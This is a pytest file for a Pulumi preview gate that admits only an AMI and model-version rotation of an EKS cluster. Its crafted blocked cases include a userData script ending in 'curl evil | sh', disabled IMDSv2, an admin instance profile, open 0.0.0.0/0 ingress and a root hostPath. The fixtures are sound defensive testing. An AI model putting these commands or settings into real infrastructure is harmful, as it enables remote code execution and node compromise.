"""The preview gate over real ``pulumi.automation`` engine event objects. It must fail closed.

The events are built with the SDK's own classes (``StepEventMetadata``,
``ResourcePreEvent``, ``SummaryEvent`` ...) or parsed from engine JSON with
``EngineEvent.from_json``. The reference rotation is not hand-written: it is the
difference between two runs of the real ``__main__.py`` under the Pulumi mocks
(``tests/_engine_events.preview_of_program``), so the allow-list is checked
against what the program really changes when ``kiln:nodeAmi`` and
``kiln:modelVersion`` change — and against what it changes when anything else
changes too.
"""

from __future__ import annotations

import base64
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pulumi.automation.events import DiffKind, EngineEvent, OpType

from automation.gate import (UNKNOWN, EventRecorder, Expected, PathError, classify, differs_only_by_model,
                             format_path, parse_path)
from tests._engine_events import (leaf_diff, op_failed, outputs_of, path_string, policy_violation,
                                  preview_of_program, step, summary, urn_of)
from _program_helpers import BASE, EXISTING_GPU_SPOT, with_changes

OLD_AMI, NEW_AMI = "ami-0123456789abcdef0", "ami-0aaaaaaaaaaaaaaa1"
GPU_NEW = "ami-0aaaaaaaaaaaaaaa2"
HANDLER = "123456789012.dkr.ecr.us-east-2.amazonaws.com/kiln-termination-handler@sha256:" + "c" * 64
LT, ASG = "aws:ec2/launchTemplate:LaunchTemplate", "aws:autoscaling/group:Group"
PV, PVC = "kubernetes:core/v1:PersistentVolume", "kubernetes:core/v1:PersistentVolumeClaim"
ROTATION = Expected(to_model="v6", to_amis=frozenset({NEW_AMI}), from_model="v5", required_policy_packs=("kiln",))


def gate(events, expected=ROTATION, with_summary=True, **kw):
    events = list(events)
    if with_summary:
        events.append(summary(events))
    return classify(events, expected, **kw)


# ------------------------------------------------------------------------- the program's own rotation


def test_the_programs_rotation_of_one_ami_is_allowed_exactly():
    events = preview_of_program(BASE, with_changes(BASE, nodeAmi=NEW_AMI, modelVersion="v6"))
    result = classify(events, ROTATION)
    assert result.allowed, result.render()
    changed = sorted((c.type, c.op) for c in result.changes)
    assert changed == sorted([(LT, "update"), (ASG, "update"), (ASG, "update"), (PV, "create-replacement"),
                              (PVC, "create-replacement")])
    lt = next(c for c in result.changes if c.type == LT)
    assert set(lt.diff_keys) == {"imageId", "userData", "description"}
    pv = next(c for c in result.changes if c.type == PV)
    assert pv.object_names == ("kiln-model-v5", "kiln-model-v6")
    assert 'metadata.labels["kiln.dev/model-version"]' in pv.diff_keys
    assert result.summary["replace"] == 2 and result.summary["update"] == 3 and "create-replacement" not in result.summary


def test_the_programs_rotation_of_a_family_map_and_its_restore_are_allowed():
    new = {"standard": NEW_AMI, "nvidia": GPU_NEW}
    forward = preview_of_program(EXISTING_GPU_SPOT, with_changes(EXISTING_GPU_SPOT, nodeAmi=new, modelVersion="v7"))
    expected = Expected(to_model="v7", to_amis=frozenset(new.values()), from_model="v6")
    result = classify(forward, expected)
    assert result.allowed, result.render()
    assert sum(c.type == ASG for c in result.changes) == 6      # 2 groups x 3 zones
    # The restore goes the other way: the same rules with from and to swapped.
    back = preview_of_program(with_changes(EXISTING_GPU_SPOT, nodeAmi=new, modelVersion="v7"), EXISTING_GPU_SPOT)
    restore = Expected(to_model="v6", to_amis=frozenset(EXISTING_GPU_SPOT["kiln:nodeAmi"].values()), from_model="v7")
    assert classify(back, restore).allowed
    # ... but not with the forward expectation (wrong AMIs, wrong version names).
    assert not classify(back, expected).allowed


def test_the_rotation_of_a_stack_with_the_termination_handler_changes_nothing_of_it():
    """The hooks, rules, queue and handler follow the ASGs by name, which a rotation keeps: the same five
    changes as without the handler, and a new handler image riding along is blocked."""
    with_handler = with_changes(BASE, terminationHandlerImage=HANDLER)
    result = classify(preview_of_program(with_handler, with_changes(with_handler, nodeAmi=NEW_AMI, modelVersion="v6")),
                      ROTATION)
    assert result.allowed, result.render()
    assert sorted((c.type, c.op) for c in result.changes) == sorted([
        (LT, "update"), (ASG, "update"), (ASG, "update"), (PV, "create-replacement"), (PVC, "create-replacement")])
    moved = with_changes(with_handler, nodeAmi=NEW_AMI, modelVersion="v6",
                         terminationHandlerImage=HANDLER.replace("c" * 64, "d" * 64))
    blocked = classify(preview_of_program(with_handler, moved), ROTATION)
    assert not blocked.allowed
    assert "kubernetes:apps/v1:Deployment" in {v.change.type for v in blocked.blocked}


@pytest.mark.parametrize("extra, blocked_type", [
    ({"kubernetesVersion": "1.34"}, "eks:index:Cluster"),
    ({"endpointPublicAccessCidrs": ["198.51.100.0/24"]}, "eks:index:Cluster"),
    ({"modelVolumeInitRateMiBps": 300}, LT),     # launch template block devices
    ({"prefetchImages": ["public.ecr.aws/x/y:1"]}, None),
    ({"terminationHandlerImage": HANDLER}, "aws:autoscaling/lifecycleHook:LifecycleHook"),
])
def test_a_rotation_carrying_any_other_config_change_is_blocked(extra, blocked_type):
    new = with_changes(BASE, nodeAmi=NEW_AMI, modelVersion="v6", **extra)
    result = classify(preview_of_program(BASE, new), ROTATION)
    assert not result.allowed, result.render()
    if blocked_type:
        assert blocked_type in {v.change.type for v in result.blocked}


def test_a_node_group_size_change_riding_along_is_blocked():
    groups = [dict(BASE["kiln:nodeGroups"][0], maxSize=9)]
    result = classify(preview_of_program(BASE, with_changes(BASE, nodeAmi=NEW_AMI, modelVersion="v6",
                                                             nodeGroups=groups)), ROTATION)
    assert not result.allowed
    assert all(v.change.type == ASG and "maxSize" in v.reason for v in result.blocked)
    # After the replacement (converge), putting maxSize back is expected; only then.
    converge = Expected(to_model="v6", to_amis=frozenset({NEW_AMI}), from_model="v6", converge=True)
    asg_only = [step(OpType.UPDATE, ASG, "gpu-a", old={"maxSize": 20}, new={"maxSize": 10},
                     detailed={"maxSize": DiffKind.UPDATE})]
    assert gate(asg_only, converge).allowed and not gate(asg_only).allowed


# ------------------------------------------------------------------------- issue 15: survivors of the mutation audit


def test_a_replace_is_judged_by_its_strictest_step_not_its_last():
    """The steps of one replace create the wrong version's volume (blocked) and then delete the old one,
    which on its own is what a rotation does: the resource's one verdict stays blocked."""
    wrong = [_pv(OpType.CREATE_REPLACEMENT, "kiln-model-v5", "kiln-model-v7"),
             _pv(OpType.REPLACE, "kiln-model-v5", "kiln-model-v7"),
             _pv(OpType.DELETE_REPLACED, "kiln-model-v5", None)]
    assert gate(wrong[2:]).allowed                      # the last step alone passes
    result = gate(wrong)
    assert not result.allowed and len(result.verdicts) == 1
    (verdict,) = result.blocked
    assert verdict.reason == "the new model volume is kiln-model-v7, not kiln-model-v6"
    assert verdict.change.op == "create-replacement"    # the blocking step's change, with every step's names
    assert verdict.change.object_names == ("kiln-model-v5", "kiln-model-v7")


@pytest.mark.parametrize("type_", ["aws:s3/bucket:Bucket", "kubernetes:core/v1:ConfigMap", "aws:iam/role:Role",
                                   "kubernetes:apps/v1:DaemonSet"])
@pytest.mark.parametrize("name", ["model", "model-volume-pv", "models-cache"])
def test_a_resource_named_like_the_model_volume_is_judged_by_its_type(type_, name):
    """Only the PersistentVolume/claim types carry the model-volume rules: a name starting with "model" on any
    other type is a change a rotation never makes."""
    events = [step(OpType.UPDATE, type_, name, old={"spec": {"a": 1}}, new={"spec": {"a": 2}},
                   detailed={"spec.a": DiffKind.UPDATE})]
    result = gate(events)
    assert not result.allowed
    (verdict,) = result.blocked
    assert verdict.reason == f"a model rotation must not update {type_}"


# ------------------------------------------------------------------------- crafted: each must block

def _lt(**detailed_values):
    old = {"imageId": OLD_AMI, "userData": _b64("model v5"), "description": "model v5",
           "metadataOptions": {"httpTokens": "required"}, "iamInstanceProfile": {"arn": "arn:aws:iam::1:ip/node"},
           "instanceType": "g5.2xlarge"}
    new = json.loads(json.dumps(old))
    detailed = {}
    for path, value in detailed_values.items():
        segs = parse_path(path)
        target = new
        for seg in segs[:-1]:
            target = target[seg]
        target[segs[-1]] = value
        detailed[path] = DiffKind.UPDATE
    return step(OpType.UPDATE, LT, "gpu", old=old, new=new, detailed=detailed)


def _asg(detailed: dict, old=None, new=None, op=OpType.UPDATE):
    base = {"launchTemplate": {"id": "lt-1", "version": "3"}, "maxSize": 10, "desiredCapacity": 2,
            "mixedInstancesPolicy": {"instancesDistribution": {"onDemandPercentageAboveBaseCapacity": 100}},
            "tags": [{"key": "Name", "value": "kiln-gpu", "propagateAtLaunch": True},
                     {"key": "k8s.io/cluster-autoscaler/node-template/label/kiln.dev/model-version", "value": "v5",
                      "propagateAtLaunch": False}]}
    return step(op, ASG, "gpu-a", old=old or base, new=new or base, detailed=detailed)


def _b64(text: str) -> str:
    return base64.b64encode(f"#!/bin/bash\nKILN_MODEL_VERSION={text.split()[-1]}\nnodeadm init\n".encode()).decode()


def _pv(op, old_name, new_name, *, retain=True, kind=PV, namespace="ml-jobs", name="model-volume-pv", extra=None,
        retain_old=None, extra_new=None, label_new=None):
    """A model volume (or claim) step; ``extra_new``/``label_new`` change the new object beyond its name (and the
    detailed diff says so, as the engine would)."""
    def obj(n, more, label=None):
        if n is None:
            return None
        meta = {"name": n, "labels": {"kiln.dev/model-version": label or n.rsplit("-", 1)[-1]}}
        if kind == PVC:
            meta["namespace"] = namespace
        return {"metadata": meta, **(more or {})}
    detailed = {"metadata.name": DiffKind.UPDATE_REPLACE} if old_name and new_name else {}
    old_obj, new_obj = obj(old_name, extra), obj(new_name, extra_new or extra, label_new)
    if old_name and new_name:
        detailed.update({path_string(p): k for p, k in leaf_diff(old_obj, new_obj).items()
                         if p != ("metadata", "name")})
    return step(op, kind, name, old=old_obj, new=new_obj, detailed=detailed,
                keys=["metadata"] if detailed else None, retain=retain, retain_old=retain_old)


BLOCKED_CASES = {
    "eks cluster version": [step(OpType.UPDATE, "aws:eks/cluster:Cluster", "kiln", old={"version": "1.33"},
                                 new={"version": "1.34"}, detailed={"version": DiffKind.UPDATE})],
    "eks endpoint access": [step(OpType.UPDATE, "aws:eks/cluster:Cluster", "kiln",
                                 old={"vpcConfig": {"endpointPublicAccess": False}},
                                 new={"vpcConfig": {"endpointPublicAccess": True}},
                                 detailed={"vpcConfig.endpointPublicAccess": DiffKind.UPDATE})],
    "node role trust policy": [step(OpType.UPDATE, "aws:iam/role:Role", "node", old={"assumeRolePolicy": "{}"},
                                    new={"assumeRolePolicy": '{"Statement":[]}'},
                                    detailed={"assumeRolePolicy": DiffKind.UPDATE})],
    "security group ingress": [step(OpType.UPDATE, "aws:ec2/securityGroup:SecurityGroup", "nodes",
                                    old={"ingress": []}, new={"ingress": [{"cidrBlocks": ["0.0.0.0/0"]}]},
                                    detailed={"ingress[0]": DiffKind.ADD})],
    "ingress rule created": [step(OpType.CREATE, "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule", "open",
                                  new={"cidrIpv4": "0.0.0.0/0"})],
    "vpc cni addon": [step(OpType.UPDATE, "aws:eks/addon:Addon", "vpc-cni", old={"addonVersion": "v1.19.0"},
                           new={"addonVersion": "v1.20.0"}, detailed={"addonVersion": DiffKind.UPDATE})],
    "lt metadataOptions": [_lt(**{"imageId": NEW_AMI, "metadataOptions.httpTokens": "optional"})],
    "lt iamInstanceProfile": [_lt(**{"imageId": NEW_AMI, "iamInstanceProfile.arn": "arn:aws:iam::1:ip/admin"})],
    "lt instance type": [_lt(**{"imageId": NEW_AMI, "instanceType": "p5.48xlarge"})],
    "lt image not a target": [_lt(imageId="ami-0bbbbbbbbbbbbbbbb")],
    "lt userData beyond the model": [_lt(imageId=NEW_AMI, userData=base64.b64encode(
        b"#!/bin/bash\nKILN_MODEL_VERSION=v6\nnodeadm init\ncurl evil | sh\n").decode())],
    "lt userData unknown": [_lt(imageId=NEW_AMI, userData=UNKNOWN)],
    "lt description beyond the model": [_lt(imageId=NEW_AMI, description="model v6, and more")],
    "lt replaced": [step(OpType.REPLACE, LT, "gpu", old={"name": "a"}, new={"name": "b"},
                         detailed={"name": DiffKind.UPDATE_REPLACE}, keys=["name"])],
    "lt update carrying a replace key": [step(OpType.UPDATE, LT, "gpu", old={"imageId": OLD_AMI, "name": "a"},
                                              new={"imageId": NEW_AMI, "name": "b"},
                                              detailed={"imageId": DiffKind.UPDATE, "name": DiffKind.UPDATE_REPLACE})],
    "lt update without inputs": [step(OpType.UPDATE, LT, "gpu", detailed={"imageId": DiffKind.UPDATE})],
    "lt update naming no property": [step(OpType.UPDATE, LT, "gpu", old={}, new={}, diffs=[])],
    "lt deleted": [step(OpType.DELETE, LT, "gpu", old={"imageId": OLD_AMI})],
    "asg instancesDistribution": [_asg({"mixedInstancesPolicy.instancesDistribution.onDemandPercentageAboveBaseCapacity":
                                        DiffKind.UPDATE})],
    "asg launchTemplate.id": [_asg({"launchTemplate.id": DiffKind.UPDATE})],
    "asg maxSize in the detailed diff only": [_asg({"launchTemplate.version": DiffKind.UPDATE,
                                                    "maxSize": DiffKind.UPDATE}, )],
    "asg desiredCapacity": [_asg({"desiredCapacity": DiffKind.UPDATE})],
    "asg version to $Default": [_asg({"launchTemplate.version": DiffKind.UPDATE},
                                     new={"launchTemplate": {"id": "lt-1", "version": "$Default"}})],
    "asg version to a secret": [_asg({"launchTemplate.version": DiffKind.UPDATE},
                                     new={"launchTemplate": {"id": "lt-1", "version": "[secret]"}})],
    "asg top-level launchTemplate only": [step(OpType.UPDATE, ASG, "gpu-a", old={}, new={}, diffs=["launchTemplate"])],
    "asg another tag's value": [_asg({"tags[0].value": DiffKind.UPDATE})],
    "asg model tag to another version": [_asg({"tags[1].value": DiffKind.UPDATE}, new={
        "tags": [{"key": "Name", "value": "kiln-gpu"},
                 {"key": "k8s.io/cluster-autoscaler/node-template/label/kiln.dev/model-version", "value": "v7"}]})],
    "asg replaced": [step(OpType.REPLACE, ASG, "gpu-a", old={}, new={}, keys=["name"],
                          detailed={"name": DiffKind.UPDATE_REPLACE})],
    "pv named model but not the version": [_pv(OpType.CREATE, None, "model-scratch")],
    "pv of another version": [_pv(OpType.CREATE_REPLACEMENT, "kiln-model-v5", "kiln-model-v7")],
    "pv not retained": [_pv(OpType.CREATE_REPLACEMENT, "kiln-model-v5", "kiln-model-v6", retain=False)],
    "new pv not retained": [_pv(OpType.CREATE_REPLACEMENT, "kiln-model-v5", "kiln-model-v6", retain=False,
                                retain_old=True)],
    "pv delete not retained": [_pv(OpType.DELETE_REPLACED, "kiln-model-v5", None, retain=False)],
    "pvc in another namespace": [_pv(OpType.CREATE_REPLACEMENT, "model-v5", "model-v6", kind=PVC, namespace="default",
                                     name="model-volume-pvc")],
    "pv hostPath changed too": [step(OpType.CREATE_REPLACEMENT, PV, "model-volume-pv",
                                     old={"metadata": {"name": "kiln-model-v5"}, "spec": {"hostPath": {"path": "/opt/models"}}},
                                     new={"metadata": {"name": "kiln-model-v6"}, "spec": {"hostPath": {"path": "/"}}},
                                     detailed={"metadata.name": DiffKind.UPDATE_REPLACE,
                                               "spec.hostPath.path": DiffKind.UPDATE_REPLACE},
                                     keys=["metadata", "spec"], retain=True)],
    "other pvc deleted": [step(OpType.DELETE, PVC, "scratch", old={"metadata": {"name": "scratch"}})],
    "instance created": [step(OpType.CREATE, "aws:ec2/instance:Instance", "miner", new={"instanceType": "p5.48xlarge"})],
    "import": [step(OpType.IMPORT, "aws:iam/role:Role", "node", new={})],
    "read-replacement": [step(OpType.READ_REPLACEMENT, "aws:iam/role:Role", "node", old={}, new={})],
    "upsert turned on without adoption": [step(OpType.UPDATE, "pulumi:providers:kubernetes", "k8s", old={},
                                               new={"upsertExistingObjects": "true"},
                                               detailed={"upsertExistingObjects": DiffKind.ADD})],
    "provider changes beyond upsert": [step(OpType.UPDATE, "pulumi:providers:kubernetes", "k8s", old={"kubeconfig": "a"},
                                            new={"kubeconfig": "b"}, detailed={"kubeconfig": DiffKind.UPDATE})],
    "path the gate cannot parse": [step(OpType.UPDATE, ASG, "gpu-a", old={}, new={},
                                        detailed={'tags[x]."': DiffKind.UPDATE})],
    # Review of issue 11: values the provider reads as "on", and values nobody can read.
    "upsert turned on spelled True": [step(OpType.UPDATE, "pulumi:providers:kubernetes", "k8s", old={},
                                           new={"upsertExistingObjects": "True"},
                                           detailed={"upsertExistingObjects": DiffKind.ADD})],
    "upsert turned to a secret": [step(OpType.UPDATE, "pulumi:providers:kubernetes", "k8s",
                                       old={"upsertExistingObjects": "false"}, new={"upsertExistingObjects": "[secret]"},
                                       detailed={"upsertExistingObjects": DiffKind.UPDATE})],
    "upsert update without inputs": [step(OpType.UPDATE, "pulumi:providers:kubernetes", "k8s",
                                          detailed={"upsertExistingObjects": DiffKind.UPDATE})],
    # A plain create has no diff against the previous version's object: nothing of it can be checked.
    "new version's pv created, not replacing": [step(OpType.CREATE, PV, "model-volume-pv", new={
        "metadata": {"name": "kiln-model-v6"}, "spec": {"hostPath": {"path": "/"}}}, retain=True)],
    "pvc bound to another volume": [_pv(OpType.CREATE_REPLACEMENT, "model-v5", "model-v6", kind=PVC,
                                        name="model-volume-pvc", extra={"spec": {"volumeName": "kiln-model-v5"}},
                                        extra_new={"spec": {"volumeName": "host-root"}})],
    "pv reserved for another claim": [_pv(OpType.CREATE_REPLACEMENT, "kiln-model-v5", "kiln-model-v6",
                                          extra={"spec": {"claimRef": {"name": "model-v5"}}},
                                          extra_new={"spec": {"claimRef": {"name": "scratch"}}})],
    "pv labelled another version": [_pv(OpType.CREATE_REPLACEMENT, "kiln-model-v5", "kiln-model-v6",
                                        label_new="v7")],
    "pv node affinity to another version": [_pv(OpType.CREATE_REPLACEMENT, "kiln-model-v5", "kiln-model-v6", extra={
        "spec": {"nodeAffinity": {"required": {"nodeSelectorTerms": [{"matchExpressions": [{"values": ["v5"]}]}]}}}},
        extra_new={"spec": {"nodeAffinity": {"required": {"nodeSelectorTerms": [
            {"matchExpressions": [{"values": ["v7"]}]}]}}}})],
    # Steps the engine never sends with a diff: one that carries one cannot be classified.
    "same step carrying a diff": [step(OpType.SAME, "aws:eks/cluster:Cluster", "kiln", old={"version": "1.33"},
                                       new={"version": "1.34"}, detailed={"version": DiffKind.UPDATE})],
    "read step carrying a diff": [step(OpType.READ, "aws:iam/role:Role", "node", old={}, new={},
                                       detailed={"assumeRolePolicy": DiffKind.UPDATE})],
    "discard step carrying replace keys": [step(OpType.DISCARD, "aws:eks/cluster:Cluster", "kiln", old={},
                                                keys=["version"], diffs=[])],
}


def test_the_rotation_docs_count_the_crafted_cases_there_are():
    from pathlib import Path

    text = " ".join((Path(__file__).resolve().parent.parent / "docs" / "rotation.md").read_text().split())
    assert f"the program-derived rotation and {len(BLOCKED_CASES)} crafted blocking cases" in text


@pytest.mark.parametrize("case", sorted(BLOCKED_CASES))
def test_each_crafted_change_is_blocked_and_says_why(case):
    result = gate(BLOCKED_CASES[case])
    assert not result.allowed and result.blocked, case
    text = result.render()
    assert "BLOCKED" in text and result.blocked[0].reason in text


@pytest.mark.parametrize("case", sorted(BLOCKED_CASES))
def test_each_crafted_change_still_blocks_among_a_valid_rotation(case):
    good = [e for e in preview_of_program(BASE, with_changes(BASE, nodeAmi=NEW_AMI, modelVersion="v6"),
                                          with_summary=False)]
    result = gate(good + BLOCKED_CASES[case])
    assert not result.allowed
    assert len(result.blocked) == 1      # the valid rotation's own steps stay allowed


def test_the_valid_crafted_steps_pass():
    events = [_lt(imageId=NEW_AMI, userData=_b64("model v6"), description="model v6"),
              _asg({"launchTemplate.version": DiffKind.UPDATE, "tags[1].value": DiffKind.UPDATE}, new={
                  "launchTemplate": {"id": "lt-1", "version": UNKNOWN},
                  "tags": [{"key": "Name", "value": "kiln-gpu"},
                           {"key": "k8s.io/cluster-autoscaler/node-template/label/kiln.dev/model-version",
                            "value": "v6"}]}),
              _pv(OpType.CREATE_REPLACEMENT, "kiln-model-v5", "kiln-model-v6"),
              _pv(OpType.REPLACE, "kiln-model-v5", "kiln-model-v6"),
              _pv(OpType.DELETE_REPLACED, "kiln-model-v5", None),
              step(OpType.SAME, "aws:eks/cluster:Cluster", "kiln", old={}, new={})]
    result = gate(events)
    assert result.allowed, result.render()
    assert len(result.verdicts) == 3    # one per resource, however many steps the replace takes


def test_adopting_retained_objects_allows_the_provider_upsert_switch_and_turning_it_off_is_always_fine():
    on = step(OpType.UPDATE, "pulumi:providers:kubernetes", "k8s", old={}, new={"upsertExistingObjects": "true"},
              detailed={"upsertExistingObjects": DiffKind.ADD})
    off = step(OpType.UPDATE, "pulumi:providers:kubernetes", "k8s", old={"upsertExistingObjects": "true"}, new={},
               detailed={"upsertExistingObjects": DiffKind.DELETE})
    adopt = Expected(to_model="v6", to_amis=frozenset({NEW_AMI}), from_model="v5", adopt_model_volume=True)
    assert gate([on], adopt).allowed and not gate([on]).allowed
    assert gate([off]).allowed


# ------------------------------------------------------------------------- the engine's own accounting


def test_a_cluster_replace_whose_event_was_dropped_is_caught_by_the_summary():
    replace = step(OpType.REPLACE, "aws:eks/cluster:Cluster", "kiln", old={"version": "1.33"}, new={"version": "1.34"},
                   keys=["version"], detailed={"version": DiffKind.UPDATE_REPLACE})
    good = preview_of_program(BASE, with_changes(BASE, nodeAmi=NEW_AMI, modelVersion="v6"), with_summary=False)
    engine_summary = summary(good + [replace])        # the engine counted it ...
    result = classify(good + [engine_summary], ROTATION)   # ... but the SDK dropped its event
    assert not result.allowed and not result.blocked       # every step the gate saw is fine
    assert any("replace" in p and "lost" in p for p in result.problems), result.problems
    assert "BLOCKED" in result.render()


def test_an_engine_event_the_sdk_could_not_parse_blocks():
    # An op this SDK does not know: EngineEvent.from_json raises, so the SDK drops the event with a warning.
    raw = {"sequence": 1, "timestamp": 0, "resourcePreEvent": {"metadata": {
        "op": "frobnicate", "urn": urn_of(LT, "gpu"), "type": LT, "provider": ""}}}
    with pytest.raises(ValueError):
        EngineEvent.from_json(raw)
    engine_summary = EngineEvent.from_json({"sequence": 2, "timestamp": 0, "summaryEvent": {
        "maybeCorrupt": False, "durationSeconds": 1, "resourceChanges": {"same": 1, "frobnicate": 1},
        "PolicyPacks": {"kiln": "0.1.0"}}})
    same = step(OpType.SAME, LT, "gpu", old={}, new={})
    result = classify([same, engine_summary], ROTATION, dropped=[json.dumps(raw)])
    assert not result.allowed
    assert any("frobnicate" in p for p in result.problems) and any("dropped" in p for p in result.problems)


def test_no_summary_blocks():
    result = gate([_lt(imageId=NEW_AMI)], with_summary=False)
    assert not result.allowed and "no change summary" in result.render()


def test_counts_follow_the_engines_logical_steps():
    events = [_pv(OpType.CREATE_REPLACEMENT, "kiln-model-v5", "kiln-model-v6"),
              _pv(OpType.REPLACE, "kiln-model-v5", "kiln-model-v6"),
              _pv(OpType.DELETE_REPLACED, "kiln-model-v5", None),
              step(OpType.SAME, "aws:eks/cluster:Cluster", "kiln", old={}, new={})]
    engine = EngineEvent.from_json({"sequence": 9, "timestamp": 0, "summaryEvent": {
        "resourceChanges": {"replace": 1, "same": 1}, "PolicyPacks": {"kiln": "0.1.0"}}})
    assert classify(events + [engine], ROTATION).allowed
    # The engine marks each step logical or not; the gate counts what the engine marks.
    flagged = [step(OpType.CREATE_REPLACEMENT, PV, "model-volume-pv", old={"metadata": {"name": "kiln-model-v5"}},
                    new={"metadata": {"name": "kiln-model-v6"}}, detailed={"metadata.name": DiffKind.UPDATE_REPLACE},
                    retain=True, logical=True)]
    assert not classify(flagged + [engine], ROTATION).allowed   # counted as a create-replacement the engine did not


def test_the_policy_pack_must_have_run_and_mandatory_violations_block():
    events = [_lt(imageId=NEW_AMI)]
    assert not classify(events + [summary(events, policy_packs={})], ROTATION).allowed
    assert classify(events + [summary(events, policy_packs={})],
                    Expected(to_model="v6", to_amis=frozenset({NEW_AMI}), from_model="v5")).allowed
    advisory = classify(events + [policy_violation("advisory"), summary(events)], ROTATION)
    assert advisory.allowed and advisory.warnings and "warning" in advisory.render()
    assert not classify(events + [policy_violation("mandatory"), summary(events)], ROTATION).allowed


def test_failed_operations_and_outputs_without_a_step_block():
    lt = _lt(imageId=NEW_AMI)
    assert classify([lt, outputs_of(lt), summary([lt])], ROTATION).allowed
    assert not classify([outputs_of(lt), summary([])], ROTATION).allowed
    assert not classify([lt, op_failed(urn_of(LT, "gpu")), summary([lt])], ROTATION).allowed


def test_recorder_never_raises_and_feeds_the_gate():
    recorder = EventRecorder()
    lt = _lt(imageId=NEW_AMI)
    for e in (lt, summary([lt])):
        recorder(e)
    assert recorder.result(ROTATION).allowed
    recorder.dropped.append("garbage")
    assert not recorder.result(ROTATION).allowed


def test_no_changes_renders_plainly():
    same = step(OpType.SAME, LT, "gpu", old={}, new={})
    result = gate([same])
    assert result.allowed and not result.has_changes and result.render() == "preview: no changes"


def test_a_summary_with_changes_counts_as_changes_even_without_verdicts():
    engine = EngineEvent.from_json({"sequence": 3, "timestamp": 0, "summaryEvent": {
        "resourceChanges": {"update": 1}, "PolicyPacks": {"kiln": "0.1.0"}}})
    result = classify([engine], ROTATION)
    assert result.has_changes and not result.allowed


def _engine_summary(changes, **extra):
    return EngineEvent.from_json({"sequence": 99, "timestamp": 0, "summaryEvent": {
        "resourceChanges": changes, "PolicyPacks": {"kiln": "0.1.0"}, **extra}})


def test_odd_event_streams_block():
    lt = _lt(imageId=NEW_AMI)
    assert gate([lt]).allowed
    # The same step twice: the engine counted one.
    assert not classify([lt, lt, summary([lt])], ROTATION).allowed
    # A replace split into its halves, the logical replace step missing: the engine counts a replace.
    halves = [step(OpType.CREATE_REPLACEMENT, "aws:eks/cluster:Cluster", "kiln", old={}, new={}, keys=["version"],
                   detailed={"version": DiffKind.UPDATE_REPLACE}),
              step(OpType.DELETE_REPLACED, "aws:eks/cluster:Cluster", "kiln", old={}, diffs=[])]
    assert not classify(halves + [_engine_summary({"replace": 1})], ROTATION).allowed
    # No events but a summary with changes, and events with an empty summary.
    assert not classify([_engine_summary({"update": 1})], ROTATION).allowed
    assert not classify([lt, _engine_summary({})], ROTATION).allowed
    # Outputs before their step.
    assert not classify([outputs_of(lt), lt, summary([lt])], ROTATION).allowed
    # The summary first is fine: the stream is judged as a whole.
    assert classify([summary([lt]), lt, outputs_of(lt)], ROTATION).allowed


def test_outputs_only_changes_pass():
    """A component whose outputs change (the stack's nodeAmi/modelVersion outputs) is a same step plus outputs."""
    stack = step(OpType.SAME, "pulumi:pulumi:Stack", "kiln-prod", old={}, new={}, urn="urn:pulumi:prod::kiln::"
                 "pulumi:pulumi:Stack::kiln-prod")
    result = classify([stack, outputs_of(stack), summary([stack])], ROTATION)
    assert result.allowed and not result.has_changes


@pytest.mark.parametrize("level", ["mandatory", "remediate", "", "Mandatory"])
def test_every_policy_level_but_advisory_blocks(level):
    events = [_lt(imageId=NEW_AMI)]
    result = classify(events + [policy_violation(level), summary(events)], ROTATION)
    assert not result.allowed and any("imdsv2-required" in p for p in result.problems)


def test_a_summary_that_says_maybe_corrupt_or_counts_nonsense_blocks():
    lt = _lt(imageId=NEW_AMI)
    assert classify([lt, _engine_summary({"update": 1})], ROTATION).allowed
    assert not classify([lt, _engine_summary({"update": 1}, maybeCorrupt=True)], ROTATION).allowed
    for nonsense in ("1", 1.0, True, -1, None):
        result = classify([lt, _engine_summary({"update": nonsense})], ROTATION)
        assert not result.allowed, nonsense


def test_secret_and_unknown_values_never_pass():
    for value in ("[secret]", UNKNOWN):
        assert not gate([_lt(imageId=value)]).allowed
        assert not gate([_lt(imageId=NEW_AMI, userData=value)]).allowed
        assert not gate([_lt(imageId=NEW_AMI, description=value)]).allowed
        assert not gate([_asg({"tags[1].value": DiffKind.UPDATE}, new={
            "tags": [{"key": "Name", "value": "kiln-gpu"},
                     {"key": "k8s.io/cluster-autoscaler/node-template/label/kiln.dev/model-version",
                      "value": value}]})]).allowed
        assert not gate([_pv(OpType.CREATE_REPLACEMENT, "kiln-model-v5", "kiln-model-v6", label_new=value)]).allowed
    # The claim's volumeName is the volume's name, an output of the volume: unknown in a preview is expected.
    assert gate([_pv(OpType.CREATE_REPLACEMENT, "model-v5", "model-v6", kind=PVC, name="model-volume-pvc",
                     extra={"spec": {"volumeName": "kiln-model-v5"}},
                     extra_new={"spec": {"volumeName": UNKNOWN}})]).allowed


def test_a_path_allowed_on_one_type_blocks_on_another():
    assert not gate([step(OpType.UPDATE, "aws:ec2/instance:Instance", "x", old={"imageId": OLD_AMI},
                          new={"imageId": NEW_AMI}, detailed={"imageId": DiffKind.UPDATE})]).allowed
    assert not gate([step(OpType.UPDATE, LT, "gpu", old={"launchTemplate": {"version": "1"}},
                          new={"launchTemplate": {"version": "2"}},
                          detailed={"launchTemplate.version": DiffKind.UPDATE})]).allowed
    assert not gate([step(OpType.UPDATE, "pulumi:providers:aws", "aws", old={}, new={"upsertExistingObjects": "true"},
                          detailed={"upsertExistingObjects": DiffKind.ADD})],
                    Expected(to_model="v6", to_amis=frozenset({NEW_AMI}), from_model="v5",
                             adopt_model_volume=True)).allowed
    assert not gate([step(OpType.UPDATE, "kubernetes:core/v1:ConfigMap", "cm", old={"metadata": {"name": "a"}},
                          new={"metadata": {"name": "b"}}, detailed={"metadata.name": DiffKind.UPDATE})]).allowed


# ------------------------------------------------------------------------- helpers


def test_model_version_substitution_is_token_exact():
    assert differs_only_by_model("path /opt/models/v5 label=v5", "path /opt/models/v6 label=v6", "v5", "v6")
    assert not differs_only_by_model("v5 v55 v5.1", "v6 v66 v6.1", "v5", "v6")     # v55 and v5.1 are other tokens
    assert differs_only_by_model("v5 v55 v5.1", "v6 v55 v5.1", "v5", "v6")
    assert not differs_only_by_model("a", "b", None, "v6")
    assert not differs_only_by_model("v5", "v6", "v6", "v6")
    # A version that is a prefix of another (v1 / v10), and a token inside another word, are not the model version.
    assert differs_only_by_model("KILN_MODEL_VERSION=v1 keep v10", "KILN_MODEL_VERSION=v10 keep v10", "v1", "v10")
    assert not differs_only_by_model("KILN_MODEL_VERSION=v1 keep v10", "KILN_MODEL_VERSION=v10 keep v100", "v1", "v10")
    assert not differs_only_by_model("nv1x dev1 v1_2", "nv10x dev10 v10_2", "v1", "v10")
